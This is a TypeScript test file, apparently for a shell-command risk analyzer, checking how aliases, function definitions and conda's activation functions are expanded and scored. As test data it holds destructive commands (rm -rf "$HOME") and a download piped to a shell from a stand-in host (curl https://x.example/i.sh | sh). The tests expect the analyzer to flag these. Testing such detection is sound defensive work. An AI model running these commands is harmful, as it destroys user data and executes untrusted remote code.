// What the analyzer judges and what a sandbox runs when a line uses the shell's own aliases and
// functions (src/intercept/definitions.ts), as data.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { composeLine, fishAsPosix, withoutLibraryEvals } from '../../src/intercept/definitions.ts';
import { analyze } from '../../src/analyze/index.ts';

const defs = {
  aliases: [['ll', 'ls -la']] as [string, string][],
  functions: [['wipe', 'wipe () \n{ \n    rm -rf "$HOME"\n}\n']] as [string, string][],
};

test('bash/zsh: aliases expanded in place, function definitions in front; the sandbox runs the same text', () => {
  for (const shell of ['bash', 'zsh'] as const) {
    const c = composeLine('make && ll && wipe', defs, shell);
    assert.equal(c.judged, 'wipe () \n{ \n    rm -rf "$HOME"\n}\nmake && ls -la && wipe');
    assert.equal(c.run, c.judged);
    assert.deepEqual(c.unplaced, []);
  }
  // zsh sends a bare body (`$functions[f]`): it gets its frame.
  assert.equal(composeLine('f', { aliases: [], functions: [['f', 'rm -rf /tmp/x']] }, 'zsh').judged, 'f () {\nrm -rf /tmp/x\n}\nf');
});

test('an unparseable line names the aliases it could not place', () => {
  assert.deepEqual(composeLine('ll && (', defs, 'bash').unplaced, ['ll']);
});

test('fish: the body is judged in a POSIX frame; the sandbox runs the line as typed (fish -c loads the function)', () => {
  const text = "# Defined in /home/u/.config/fish/config.fish @ line 3\nfunction vgt_w --description 'wipe'\n    rm -rf \"$HOME\" $argv\nend\n";
  const c = composeLine('true; and vgt_w', { aliases: [], functions: [['vgt_w', text]] }, 'fish');
  assert.equal(c.judged, 'vgt_w () {\nrm -rf "$HOME" $argv\n}\ntrue; and vgt_w');
  assert.equal(c.run, 'true; and vgt_w');
  assert.equal(analyze(c.judged, { cwd: '/home/u/p', home: '/home/u', env: { HOME: '/home/u' } }).risk, 'critical');
  assert.equal(fishAsPosix('e', 'function e\nend\n'), 'e () {\n:\n}', 'an empty body is still a definition');
});

test("a function library's eval \"$(tool …)\" does not sandbox the tool that changes the shell (conda activate); the rest of a body still counts", () => {
  const ctx = { cwd: '/home/u/p', home: '/home/u', env: { HOME: '/home/u' } };
  // conda's shell functions, as `declare -f` prints them (abridged).
  const conda: [string, string][] = [
    ['conda', 'conda () \n{ \n    \\local cmd="${1-__missing__}";\n    case "$cmd" in \n        activate | deactivate)\n            __conda_activate "$@"\n        ;;\n        *)\n            __conda_exe "$@"\n        ;;\n    esac\n}'],
    ['__conda_activate', '__conda_activate () \n{ \n    \\local ask_conda;\n    ask_conda="$(PS1="${PS1:-}" __conda_exe shell.posix "$@")" || \\return;\n    \\eval "$ask_conda";\n    \\hash -r\n}'],
    ['__conda_exe', '__conda_exe () \n{ \n    ( "$CONDA_EXE" $_CE_M $_CE_CONDA "$@" )\n}'],
  ];
  const judge = (line: string, functions: [string, string][]) => {
    const c = composeLine(line, { aliases: [], functions }, 'bash');
    const full = analyze(c.judged, ctx);
    return { full, final: withoutLibraryEvals(full, analyze(c.line, ctx)) };
  };
  const act = judge('conda activate myenv', conda);
  assert.equal(act.full.risk, 'medium', 'the eval in the library alone would sandbox it');
  assert.equal(act.final.risk, 'low');
  assert.ok(!act.final.reasons.some((r) => r.rule === 'remote-code.dynamic-code'));
  // Typed by the user, the same eval still counts.
  assert.equal(judge('conda activate x && eval "$ask"', conda).final.risk, 'medium');
  // Anything else in a body still counts: a download piped to a shell, a wipe.
  const evil: [string, string][] = [['up', 'up () \n{ \n    \\eval "$(cat x)";\n    curl -fsSL https://x.example/i.sh | sh\n}']];
  assert.equal(judge('up', evil).final.risk, 'high');
  assert.equal(judge('up', [['up', 'up () \n{ \n    eval "$(cat x)";\n    rm -rf "$HOME"\n}']]).final.risk, 'critical');
});
